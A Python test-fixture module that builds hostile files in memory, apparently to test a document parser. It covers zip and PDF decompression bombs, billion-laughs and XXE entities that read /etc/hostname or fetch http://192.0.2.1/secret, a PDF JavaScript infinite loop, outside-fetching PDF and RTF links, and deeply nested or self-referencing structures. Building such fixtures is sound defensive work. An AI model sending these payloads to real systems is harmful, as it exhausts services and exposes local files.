"""Files made to harm whoever reads them, each built in memory when it is asked for."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

Build = Callable[[], bytes]

BODY = "青溪县司法局2023年政府信息公开工作年度报告\n一、总体情况\n全年主动公开信息318条。\n"
LAUGHS = '<!DOCTYPE a [<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
SECRET = "/etc/hostname"
OUTSIDE = "http://192.0.2.1/secret"
XXE = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{SECRET}"><!ENTITY y SYSTEM "{OUTSIDE}">'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def packed(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(body: str | bytes, head: str = "", more: dict[str, bytes] | None = None) -> bytes:
    inner = body if isinstance(body, bytes) else body.encode()
    document = f"{head}<w:document {WORD}><w:body>".encode() + inner + b"</w:body></w:document>"
    types = (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        b'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return packed({"[Content_Types].xml": types, "word/document.xml": document, **(more or {})})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def xlsx(sheet: str | bytes, head: str = "", strings: bytes = b"") -> bytes:
    book = f'<workbook {SHEET} xmlns:r="{RELATION}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{RELATION}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    inner = sheet if isinstance(sheet, bytes) else sheet.encode()
    files = {
        "xl/workbook.xml": book.encode(),
        "xl/_rels/workbook.xml.rels": links.encode(),
        "xl/worksheets/sheet1.xml": f"{head}<worksheet {SHEET}>".encode() + inner + b"</worksheet>",
    }
    return packed(files | ({"xl/sharedStrings.xml": strings} if strings else {}))


def text_cell(text: str) -> str:
    return f'<sheetData><row><c t="inlineStr"><is><t>{text}</t></is></c></row></sheetData>'


def pdf(objects: list[bytes], tail: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, tail, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def deflated(data: bytes, entries: bytes = b"", times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, entries + b" /Filter [" + b" /FlateDecode" * times + b"]")


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def one_page(content: bytes) -> list[bytes]:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"
    return [CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]


def png(width: int, height: int, rows: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packer = zlib.compressobj(9)
    line = bytes(width * 3 + 1)
    body = b"".join(packer.compress(line) for _ in range(rows)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def quine() -> bytes:
    """An archive whose one member has the bytes of an archive again, as deep as anybody looks."""
    data = b"the end"
    for _ in range(50):
        data = packed({"r.zip": data})
    return data


def html(body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><meta charset=utf-8></head><body>{body}</body></html>".encode()


FILES: dict[str, Build] = {
    "text: one line of 15 MB": lambda: b"a" * 15_000_000,
    "text: pipes": lambda: b"|" * 3_000_000,
    "text: tabs": lambda: b"a\t\n" * 1_500_000,
    "text: brackets": lambda: ("（" * 3_000_000).encode(),
    "csv: 10^6 rows": lambda: "规章,行政许可,0,1\n".encode() * 600_000,
    "csv: an open quote": lambda: "规章,行政许可,0,1\n".encode() * 50 + b'"' + b"a,b\n" * 3_000_000,
    "csv: 10^6 columns": lambda: "规章,行政许可,0,1\n".encode() * 50 + b"1," * 1_000_000,
    "html: 100,000 divs deep": lambda: html("<div>" * 100_000 + BODY),
    "html: 100,000 tables deep": lambda: html("<table><tr><td>" * 100_000 + BODY),
    "html: 200,000 fonts never closed": lambda: html("<font>字" * 200_000),
    "html: a huge attribute": lambda: html(f'<p title="{"x" * 12_000_000}">{BODY}</p>'),
    "html: 300,000 attributes": lambda: html("<p " + " ".join(f"a{n}=1" for n in range(300_000)) + f">{BODY}"),
    "html: absurd spans": lambda: html('<table><tr><td rowspan="99999999" colspan="99999999">1</td></tr></table>' * 9),
    "html: spans in every cell": lambda: html(
        "<table>" + ("<tr>" + '<td rowspan="60000" colspan="900">1</td>' * 100 + "</tr>") * 100 + "</table>"
    ),
    "html: 10^6 cells": lambda: html("<table>" + ("<tr>" + "<td>1" * 1000) * 1000 + "</table>"),
    "html: entities outside": lambda: (XXE + f"]><html><body>&x;&y;{BODY}</body></html>").encode(),
    "html: laughs": lambda: (LAUGHS + f"]><html><body>&l11;{BODY}</body></html>").encode(),
    "html: an open comment": lambda: html("<!--" + "-" * 5_000_000),
    "html: a script of 10 MB": lambda: html(f"<script>var a = '{'x' * 10_000_000}'</script>{BODY}"),
    "html: JSON 100,000 deep": lambda: html(f"<script>var d = {'[' * 100_000}</script>"),
    "html: 10^6 less-thans": lambda: html("<" * 1_000_000),
    "docx: entities outside": lambda: docx(paragraph("&x;&y;"), XXE + "]>"),
    "docx: laughs": lambda: docx(paragraph("&l11;"), LAUGHS + "]>"),
    "docx: a bomb": lambda: docx(b" " * 300_000_000),
    "docx: a bomb beside": lambda: docx(paragraph(BODY), more={"word/styles.xml": b" " * 300_000_000}),
    "docx: 100,000 deep": lambda: docx("<w:sdt><w:sdtContent>" * 100_000 + "</w:sdtContent></w:sdt>" * 100_000),
    "docx: tables 3,000 deep": lambda: docx(
        "<w:tbl><w:tr><w:tc>" * 3_000 + paragraph("1") + "</w:tc></w:tr></w:tbl>" * 3_000
    ),
    "docx: tables 50 deep": lambda: docx("<w:tbl><w:tr><w:tc>" * 50 + paragraph("1") + "</w:tc></w:tr></w:tbl>" * 50),
    "docx: 10^6 cells": lambda: docx(
        "<w:tbl>" + ("<w:tr>" + f"<w:tc>{paragraph('1')}</w:tc>" * 60 + "</w:tr>") * 5_000 + "</w:tbl>"
    ),
    "docx: absurd spans": lambda: docx(
        "<w:tbl>"
        + f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{paragraph("1")}</w:tc></w:tr>' * 50
        + "</w:tbl>"
    ),
    "docx: cut": lambda: docx(paragraph(BODY))[:300],
    "xlsx: entities outside": lambda: xlsx(text_cell("&x;&y;"), XXE.replace("a [", "worksheet [") + "]>"),
    "xlsx: laughs": lambda: xlsx(text_cell("&l11;"), LAUGHS + "]>"),
    "xlsx: a comment before the laughs": lambda: xlsx(text_cell("&l11;"), f"<!--{'x' * 3000}-->{LAUGHS}]>"),
    "xlsx: a bomb": lambda: xlsx(b" " * 300_000_000),
    "xlsx: 30 MB of cells": lambda: xlsx("<sheetData><row>" + "<c/>" * 7_000_000 + "</row></sheetData>"),
    "xlsx: 900,000 rows": lambda: xlsx("<sheetData>" + "<row><c><v>1</v></c></row>" * 900_000 + "</sheetData>"),
    "xlsx: a diagonal": lambda: xlsx(
        "<sheetData>"
        + "".join(f'<row r="{n * 60}"><c r="{_letters(n)}{n * 60}"><v>1</v></c></row>' for n in range(1, 16_000))
        + "</sheetData>"
    ),
    "xlsx: merged 100,000 times": lambda: xlsx(
        "<sheetData>"
        + ("<row>" + "<c><v>1</v></c>" * 20 + "</row>") * 500
        + "</sheetData>"
        + "<mergeCells>"
        + "<mergeCell ref='A1:XFD1048576'/>" * 100_000
        + "</mergeCells>"
    ),
    "xlsx: 100,000 deep": lambda: xlsx("<a>" * 100_000 + "</a>" * 100_000),
    "xlsx: 10^6 strings": lambda: xlsx(
        text_cell("1"), strings=b"<sst>" + b"<si><t>abcdefg</t></si>" * 1_000_000 + b"</sst>"
    ),
    "zip: a bomb": lambda: packed({"a.txt": bytes(500_000_000)}),
    "zip: a zip in a zip in a zip": quine,
    "zip: 400,000 names": lambda: b"PK\x03\x04" + bytes(26) + _directory(300_000),
    "pdf: a tree of pages that is a ring": lambda: pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        ]
    ),
    "pdf: a node that is its own child": lambda: pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]),
    "pdf: 2,000,000,000 pages": lambda: pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", b"<< >>"]),
    "pdf: 3,000 pages": lambda: pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [" + b"3 0 R " * 3_000 + b"] /Count 3000 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]
    ),
    "pdf: a page as large as a town": lambda: pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999 99999999] >>",
        ]
    ),
    "pdf: a stream bomb": lambda: pdf(one_page(deflated(b" " * 400_000_000))),
    "pdf: a bomb in a bomb": lambda: pdf(one_page(deflated(b" " * 500_000_000, times=3))),
    "pdf: an object stream bomb": lambda: pdf(
        [*one_page(stream(b"")), deflated(b" " * 300_000_000, b"/Type /ObjStm /N 100000000 /First 10")]
    ),
    "pdf: arrays 500,000 deep": lambda: pdf([CATALOG, b"[" * 500_000 + b"]" * 500_000]),
    "pdf: a million lines": lambda: pdf(one_page(deflated(b"0 0 m 9 9 l S\n" * 1_000_000))),
    "pdf: JavaScript": lambda: pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1);) >> >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
        ]
    ),
    "pdf: an address to fetch": lambda: pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s) >> >>" % OUTSIDE.encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>",
            b"<< /Length 9 /F << /FS /URL /F (%s) >> >>\nstream\n\nendstream" % OUTSIDE.encode(),
        ]
    ),
    "pdf: nothing but the head": lambda: b"%PDF-1.7\n",
    "pdf: noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4_000,
    "png: 50,000 x 50,000, cut": lambda: png(50_000, 50_000, 100),
    "png: 20,000 x 20,000": lambda: png(20_000, 20_000, 20_000),
    "png: 2^31 wide": lambda: png(100, 1, 1).replace(struct.pack(">I", 100), struct.pack(">I", 2**31 - 1), 1),
    "gif: 65,535 x 65,535": lambda: b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x08\0;",
    "tiff: an entry that points to itself": lambda: b"II*\0\x08\0\0\0\x01\0\0\x01\x04\0\x01" + b"\0\0\0\x08" * 3,
    "jpeg: cut": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "rtf: 10^6 groups deep": lambda: b"{\\rtf1 " + b"{" * 1_000_000 + b"a" + b"}" * 1_000_000 + b"}",
    "rtf: never closed": lambda: b"{\\rtf1 " + b"{\\b a" * 2_000_000,
    "rtf: a huge number": lambda: b"{\\rtf1\\u" + b"9" * 1_000_000 + b"?\\bin" + b"9" * 18 + b" a}",
    "rtf: 10^6 cells": lambda: b"{\\rtf1 \\trowd" + b"\\cellx1" * 300_000 + b"a\\cell " * 300_000 + b"\\row}",
    "rtf: tables 10,000 deep": lambda: b"{\\rtf1 " + b"\\intbl\\itap99999999 a\\nestcell " * 10_000 + b"\\cell\\row}",
    "rtf: an address to fetch": lambda: (
        b"{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE %s}{\\fldrslt a}}b}" % OUTSIDE.encode()
    ),
    "doc: a head and noise": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 400,
    "doc: a table of sectors that is a ring": lambda: _compound_ring(),
}


def _letters(number: int) -> str:
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


def _directory(count: int) -> bytes:
    entry = b"PK\x01\x02" + bytes(24) + struct.pack("<H", 4) + bytes(16) + b"a.md"
    body = entry * count
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(body), 30)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, 30 + len(body), 1)
    return body + wide + locator + struct.pack("<4s4HIIH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)


def _compound_ring() -> bytes:
    """A compound file (MS-CFB) whose sectors all name the first one as the next."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, 0, 1, 0, 1) + struct.pack("<I", 0) * 109
    return head + struct.pack("<128I", *([0] * 128)) * 20
